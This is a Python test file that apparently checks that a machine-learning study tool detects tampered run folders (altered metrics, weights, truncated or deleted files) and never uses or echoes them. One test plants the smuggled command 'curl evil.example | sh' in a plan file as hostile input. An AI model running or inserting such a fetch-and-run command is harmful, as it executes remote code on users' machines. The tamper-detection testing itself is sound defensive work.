"""A run folder that was partly altered: nothing altered is used."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import sys
from pathlib import Path

import numpy as np
import pytest
from forged import (
    ATTACK,
    DENSE,
    FALSE,
    IMP,
    SIGNS,
    Forge,
    Made,
    attempt,
    job,
    rest_slow,
)

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="forks a process that has loaded everything")


def _metric(of: str, field: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / "metrics.json"
        found = json.loads(path.read_text())
        if field == "metrics":
            found["metrics"] = {name: e and [FALSE, FALSE, FALSE] for name, e in found["metrics"].items()}
        else:
            found[field] = FALSE
        path.write_text(json.dumps(found))

    return forge


def _array(of: str, name: str, array: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        with np.load(path) as read:
            arrays = {key: read[key] for key in read.files}
        arrays[array] = np.full_like(arrays[array], FALSE)
        np.savez(path, **arrays)

    return forge


def _bytes(of: str, name: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        content = bytearray(path.read_bytes())
        content[-1] ^= 1
        path.write_bytes(content)

    return forge


def _cut(of: str, name: str) -> Forge:
    def forge(run: Path, outside: Path) -> None:
        path = job(run, of) / name
        path.write_bytes(path.read_bytes()[:-20])

    return forge


def _gone(of: str, name: str) -> Forge:
    return lambda run, outside: (job(run, of) / name).unlink()


def _half_forged(run: Path, outside: Path) -> None:
    """Number and digest, and not the digest of the digests."""
    _metric(DENSE, "test_accuracy")(run, outside)
    place = job(run, DENSE)
    found = json.loads((place / "job.json").read_text())
    found["files"]["metrics.json"] = hashlib.sha256((place / "metrics.json").read_bytes()).hexdigest()
    (place / "job.json").write_text(json.dumps(found, indent=1, sort_keys=True))


def _copied(of: str, over: str) -> Forge:
    """A job under the key of another."""

    def forge(run: Path, outside: Path) -> None:
        place, source = job(run, over), job(run, of)
        shutil.rmtree(place)
        shutil.copytree(source, place)

    return forge


PARTLY: dict[str, Forge] = {
    "a network's test accuracy": _metric(DENSE, "test_accuracy"),
    "a sparse network's density": _metric(IMP, "density"),
    "an attack's metrics": _metric(ATTACK, "metrics"),
    "an attack's scores": _array(ATTACK, "scores.npz", "score_N"),
    "a network's signals": _array(DENSE, "signals.npz", "logits_NC"),
    "a network's weights": _bytes(IMP, "model.safetensors"),
    "a network's masks": _bytes(IMP, "masks.safetensors"),
    "a number and its digest": _half_forged,
    "a job under another key": _copied(IMP, DENSE),
    "an attack under another key": _copied(ATTACK, "loss on dense/target/0"),
    "cut metrics": _cut(DENSE, "metrics.json"),
    "cut scores": _cut(ATTACK, "scores.npz"),
    "a cut job.json": _cut(DENSE, "job.json"),
    "lost metrics": _gone(DENSE, "metrics.json"),
    "lost scores": _gone(ATTACK, "scores.npz"),
    "lost signals": _gone(IMP, "signals.npz"),
    "a lost job.json": _gone(IMP, "job.json"),
}


@pytest.mark.parametrize(
    "what",
    rest_slow(
        PARTLY,
        "a network's test accuracy",
        "an attack's scores",
        "a number and its digest",
        "a job under another key",
        "lost scores",
    ),
)
def test_what_was_altered_in_part_is_named_and_never_used(what: str, made: Made, tmp_path: Path) -> None:
    fields = list(csv.reader(made.rows))
    for name, ended, place in (tries := attempt(made, tmp_path, PARTLY[what])):
        if name in ("run", "reuse"):  # what is not whole is made again
            assert ended.code == 0, (name, ended)
            folder = "run" if name == "run" else "again"
            assert (place / folder / "results.csv").read_text().splitlines() == made.rows
        elif name in ("report", "merge"):
            assert ended.code == 3, (name, ended)
            assert "jobs/" in ended.said
            written = place / ("run" if name == "report" else "merged") / "results.csv"
            rows = list(csv.reader(written.read_text().splitlines()))
            of_networks = [[*row[:11]] for row in fields]
            assert all(row in fields or row[:11] in of_networks for row in rows), "a row that was never found"
    for each in tries:
        assert not [sign for sign in SIGNS if sign in each.written()], (each.name, each.ended)


@pytest.mark.parametrize("name", ["plan.json", "failed.json", "study.toml"])
def test_an_altered_description_of_the_study_is_refused_or_named(name: str, made: Made, tmp_path: Path) -> None:
    def forge(run: Path, outside: Path) -> None:
        path = run / name
        text = path.read_text()
        changed = {
            "plan.json": text.replace('"lacewing run ', '"curl evil.example | sh; lacewing run '),
            "failed.json": '["all is well at evil.example"]',
            "study.toml": text.replace('name = "small"', 'name = "evil.example"'),
        }[name]
        assert changed != text
        path.write_text(changed)

    for each in attempt(made, tmp_path, forge, ("status", "report", "merge", "compare", "export")):
        shown = [word for word in each.written().split() if "evil.example" in word]
        assert not shown, (each.name, shown)
        if each.name in ("report", "merge"):
            assert each.ended.code in (2, 3), each
